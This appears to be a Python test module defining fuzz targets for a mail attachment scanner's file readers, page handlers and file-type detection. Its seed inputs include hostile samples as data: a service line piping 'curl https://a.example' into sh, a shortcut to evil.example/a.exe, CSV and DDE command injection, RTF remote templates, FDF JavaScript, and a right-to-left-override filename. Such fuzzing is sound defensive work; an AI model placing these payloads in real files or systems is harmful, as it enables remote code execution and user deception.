"""Fuzz targets: the readers of files and pictures, and what tells one type of file from another."""

import plistlib
from functools import partial

from bench.fuzz import readers, seeds
from bench.fuzz.seeds import Seeds, formats, lines, pictures
from bench.fuzz.target import Target
from gatepost.files import file_types, qr_codes
from gatepost.files.values import File, UnpackBudget
from gatepost.files.walk import find_files
from gatepost.mail.message import Message, Part


def _file(kind: str, *extensions: str, name: str = "", made: Seeds | None = None, most: int = 8_192) -> Target:
    extension = extensions[0] if extensions else kind
    return Target(
        f"file-{name or kind}", readers.read_file(kind, f"a.{extension}"), made or formats(*extensions), most=most
    )


FILES: tuple[Target, ...] = (
    _file("zip", "zip", "jar", "docx"),
    _file("7z", "7z"),
    _file("rar", "rar"),
    Target("libarchive", readers.read_file("rar", "a.rar", native=True), formats("rar")),
    _file("tar", "tar"),
    _file("cab", "cab"),
    _file("arj", "arj"),
    _file("ace", "ace"),
    _file("ar", "ar", "deb"),
    _file("cpio", "cpio"),
    _file("rpm", "rpm"),
    _file("gzip", "gz"),
    _file("bzip2", "bz2"),
    _file("xz", "xz"),
    _file("lzma", "lzma"),
    _file("lzip", "lz"),
    _file("zstd", "zst"),
    _file("compress", "Z"),
    _file("lz4", "lz4"),
    _file("szdd", "js_"),
    _file("iso", "iso", most=131_072),
    _file("png", "png", name="appended"),
    _file("ole", made=seeds.compounds, most=16_384),
    _file("xml", made=seeds.office_parts),
    _file(
        "rtf",
        "rtf",
        made=lambda: [*formats("rtf")(), rb"{\rtf1{\*\template http://a}{\field{\*\fldinst DDE a}}\u228?\par}"],
    ),
    _file("pdf", "pdf"),
    _file("onenote", "one"),
    _file("eml", "eml", "mht"),
    _file("mbox", "mbox"),
    _file("tnef", "dat"),
    _file("cms", "p7m"),
    _file("pgp", "gpg", "asc"),
    _file("html", "html", made=seeds.pages),
    _file("svg", "svg", made=seeds.pages),
    _file(
        "ics",
        "ics",
        made=lines(
            "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nORGANIZER:mailto:a@b.example\r\nATTACH;ENCODING=BASE64;FILENAME=a:"
            "QUJD\r\nDESCRIPTION:https://a.exa\r\n mple\\nx\r\nEND:VCALENDAR"
        ),
    ),
    _file("vcard", "vcf"),
    _file("text", "txt", name="plain"),
    _file("lnk", "lnk", made=lines(bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(200))),
    _file(
        "text",
        "url",
        name="shortcut",
        made=lines("[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\nIconFile=\\\\a\\b"),
    ),
    _file(
        "text",
        "csv",
        name="table",
        made=lines("a,=cmd|'/c calc'!A1\n=HYPERLINK(\"https://a.example\")", "ID;P\nO;E\nNN;Nauto_open;ER1C1"),
    ),
    _file(
        "text",
        "json",
        name="encoded-data",
        made=lines(
            '["key",{},"uri","data:application/octet-stream;base64,' + "TVqQAAMAAAAEAAAA\\/\\/8AALgA\\u002b" * 9 + '"]',
            "<xfdf xmlns='http://ns.adobe.com/xfdf/'><data encoding='hex'>"
            + "504b0304140000000800" * 9
            + "</data></xfdf>",
        ),
    ),
    _file("data", "plist", name="binary-list", made=lines(plistlib.dumps({"a": b"MZ" * 40}, fmt=plistlib.FMT_BINARY))),
    _file(
        "pdf",
        "fdf",
        name="form-data",
        made=lines(
            b"%FDF-1.2\n1 0 obj<</FDF<</F(//a.example/b\\051)/JavaScript<</After(app.alert\\(1\\))>>>>>>endobj",
            b"%FDF-1.2\n1 0 obj<</FDF<</UF<68747470733a2f2f61>>>>>endobj",
        ),
    ),
    _file(
        "text",
        "sh",
        name="settings",
        made=lines(
            "[Service]\nExecStart=sh -c 'curl https://a.example | sh'\n",
            "<key>ProgramArguments</key><array><string>a</string></array><key>RunAtLoad</key>",
        ),
    ),
    _file(
        "data",
        "bin",
        name="workbook-part",
        made=lines(b"\xe8\x02\x20\x01\0\x04\0\0\0c\0m\0d\0\0\0", b"\x83\x01\x00A\0u\0t\0o\0_\0O\0p\0e\0n\0"),
    ),
    _file("wav", "doc", name="other", made=seeds.sound),
    *(
        Target(f"picture-{kind}", readers.read_picture(kind), pictures(pillow))
        for kind, pillow in (
            ("png", "PNG"),
            ("gif", "GIF"),
            ("bmp", "BMP"),
            ("jpeg", "JPEG"),
            ("webp", "WEBP"),
            ("tiff", "TIFF"),
            ("ico", "ICO"),
            ("jpeg2000", "JPEG2000"),
            ("heif", "AVIF"),
        )
    ),
    Target("page-scripts", readers.run_page, seeds.running_pages, most=4_096),
    Target("page-browser", readers.run_script, seeds.page_codes, most=2_048),
    Target("page-gates", partial(readers.run_script, is_gated=True), seeds.gated_codes, most=2_048),
    Target("large-pages", readers.shorten_page, seeds.large_pages, most=4_096),
    Target("page-xml", readers.read_xml_nodes, seeds.xml_pages),
    Target("page-effects", readers.add_page_effects, seeds.page_effects),
    Target("picture-pdf", readers.read_picture("pdf"), formats("pdf")),
    Target(
        "picture-svg",
        readers.draw_svg,
        lines("<svg><rect x=1 y='2' width='30' height='30' fill='#000'/><path d='M1 1h5v5z'/></svg>"),
    ),
    Target(
        "drawn-codes",
        lambda data: qr_codes.find_drawn_codes(File("1", data, "text", "0" * 64)),
        lines("\u2588\u2580\u2584 " * 60, "<table>" + "<tr><td bgcolor=#000><td></tr>" * 30),
    ),
    Target(
        "signatures",
        file_types.identify,
        seeds.everything,
        cheap=True,
    ),
    Target(
        "file-names",
        lambda data: file_types.find_last_extensions(readers.decode_text(data)),
        lines("a.js", "a.pdf \u202egpj.js..", "a.b::$DATA"),
        cheap=True,
        most=300,
    ),
    Target(
        "walk",
        lambda data: find_files(Message(parts=(Part("1", names=("a",), content=data),)), UnpackBudget(native=False)),
        seeds.everything,
    ),
)
